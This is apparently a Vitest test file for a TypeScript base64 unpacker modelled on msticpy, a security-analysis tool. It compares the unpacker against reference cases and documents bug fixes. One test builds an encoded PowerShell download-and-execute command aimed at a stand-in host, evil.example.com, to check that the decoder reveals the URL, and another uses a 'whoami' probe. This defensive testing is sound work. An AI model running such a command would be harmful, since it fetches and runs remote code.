import { describe, expect, it } from 'vitest';
import { unpackBase64 } from '../../../src/analysis/base64/unpack.js';
import { asObservedRow, base64Cases, hasReferenceCases, hasTestData, testDataFile } from './reference-cases.js';

const cases = base64Cases();

function caseById(id: string) {
  const found = cases?.cases.find((testCase) => testCase.id === id);
  if (!found) throw new Error(`no case ${id}`);
  return found;
}

describe.skipIf(!hasReferenceCases)('unpackBase64 on msticpy test files (base64unpack_cases.json)', () => {
  it('b64text_inzip: 2 records (zip member text, then a UTF-16 BOM binary one level down)', () => {
    const testCase = caseById('archive_string_b64text_inzip');
    const result = unpackBase64(testCase.input);
    expect(result.records.map(asObservedRow)).toEqual(testCase.observed_rows);
    expect(result.truncated).toBe(false);
    expect(result.warnings).toEqual([]);
  });

  it("b64text_inzip text matches msticpy's unpack; NOT unpack_items' whole-string 'A' padding quirk (§j.7)", () => {
    const testCase = caseById('archive_string_b64text_inzip');
    const observed = testCase.observed_decoded_string ?? '';
    // unpack_items(input_string) padded the whole input with 'A' to a multiple of 4 before decoding.
    expect(observed.endsWith('\nA')).toBe(true);
    expect(unpackBase64(testCase.input).decodedText).toBe(observed.slice(0, -1));
  });

  it('base64msg: 8 records (tar and zip members, then nested base64), text and hashes as msticpy', () => {
    const testCase = caseById('nested_archive_base64msg');
    const result = unpackBase64(testCase.input);
    expect(result.records).toHaveLength(8);
    expect(result.records.map(asObservedRow)).toEqual(testCase.observed_rows);
    expect(result.decodedText).toBe(testCase.observed_decoded_string);
    expect(result.records.map((record) => record.index)).toEqual([
      '1.1',
      '1.2',
      '1.3',
      '2.1',
      '2.2',
      '2.3',
      '2.1',
      '2.2',
    ]);
  });

  it('base64msg twice, as msticpy unpack_df with two rows: 16 records', () => {
    const input = caseById('nested_archive_base64msg').input;
    const rows = [input, input].flatMap((text) => unpackBase64(text).records);
    expect(rows).toHaveLength(16);
  });
});

describe.skipIf(!hasTestData || !hasReferenceCases)('unpackBase64 on shared/data/msticpy files', () => {
  it('reads base64msg.txt and b64text_inzip.txt as the cases record them', () => {
    expect(unpackBase64(testDataFile('base64msg.txt')).records).toHaveLength(8);
    expect(unpackBase64(testDataFile('b64text_inzip.txt')).records).toHaveLength(2);
  });
});

describe.skipIf(!hasReferenceCases)('msticpy behaviour probes (unpack, no padding)', () => {
  for (const probe of cases?.behaviour_probes ?? []) {
    const expected = probe.unpack_string_no_padding;
    if (probe.id === 'powershell_utf16le_default') {
      it('powershell_utf16le_default — differs deliberately: UTF-16LE payload decoded as UTF-16, not UTF-8 with NULs', () => {
        const asUtf16 = cases?.behaviour_probes.find((other) => other.id === 'powershell_utf16le_utf16_true');
        const result = unpackBase64(probe.input);
        expect(result.decodedText).toBe(asUtf16?.unpack_string_no_padding.decoded_string);
        expect(result.records.map(asObservedRow)).toEqual(asUtf16?.unpack_string_no_padding.rows);
        expect(expected.rows?.[0]?.encoding_type).toBe('utf-8');
      });
      continue;
    }
    it(`${probe.id} as msticpy`, () => {
      const result = unpackBase64(probe.input, { utf16: probe.kwargs?.utf16 ?? false });
      expect(result.decodedText).toBe(expected.decoded_string);
      expect(result.records.map(asObservedRow)).toEqual(expected.rows ?? []);
    });
  }

  it("does not replicate unpack_items' 'A' padding (no_b64 probe: msticpy returns '…whoamiAAA')", () => {
    const probe = cases?.behaviour_probes.find((other) => other.id === 'no_b64');
    expect(probe?.unpack_items_string.decoded_string.endsWith('whoamiAAA')).toBe(true);
    expect(unpackBase64(probe?.input ?? '').decodedText.endsWith('whoami')).toBe(true);
  });
});

describe('deliberate fixes of msticpy base64 bugs (facts §j.7)', () => {
  const b64 = (text: string) => Buffer.from(text).toString('base64');

  it('FIX recursion continues after any successful fragment, not only the last one', () => {
    // msticpy stops here: its last candidate (33 characters, an invalid base64 length) fails, so it never
    // recurses into the first fragment's nested base64.
    const text = `first ${b64(`inner ${b64('the innermost decoded text is here')}`)} then ${'QUJD'.repeat(8)}Q`;
    const result = unpackBase64(text);
    expect(result.records.map((record) => record.decodedString)).toContain('the innermost decoded text is here');
    expect(result.decodedText).toContain("depth='2'");
  });

  it('FIX PowerShell -EncodedCommand (UTF-16LE) decodes as UTF-16 so IoCs in it are readable', () => {
    const command = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')";
    const encoded = Buffer.from(command, 'utf16le').toString('base64');
    const result = unpackBase64(`powershell.exe -NoP -EncodedCommand ${encoded}`);
    expect(result.records[0]?.encodingType).toBe('utf-16');
    expect(result.decodedText).toContain('http://evil.example.com/a.ps1');
  });

  it('FIX deeper item prefixes use single dots (msticpy writes 2..1.)', () => {
    const three = b64(`x ${b64(`y ${b64('level three text is right here')}`)}`);
    const result = unpackBase64(three);
    expect(result.records.map((record) => record.index)).toEqual(['1', '1.1', '1.1.1']);
  });

  it('FIX a broken archive becomes a warning on the record, not an exception', () => {
    const brokenZip = `UEsDBBQAAAAIA${'A'.repeat(119)}`;
    const result = unpackBase64(`data ${brokenZip}`);
    expect(result.records).toHaveLength(1);
    expect(result.records[0]?.fileName).toBe('unknown');
    expect(result.records[0]?.warnings[0]).toMatch(/zip/);
    expect(result.warnings[0]).toMatch(/^1: /);
  });

  it('uses a fresh undecodable-candidate memo on every call (msticpy keeps one per process)', () => {
    const candidate = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo';
    expect(unpackBase64(candidate).records).toHaveLength(0);
    expect(unpackBase64(`${candidate}=`).records).toHaveLength(1);
  });
});
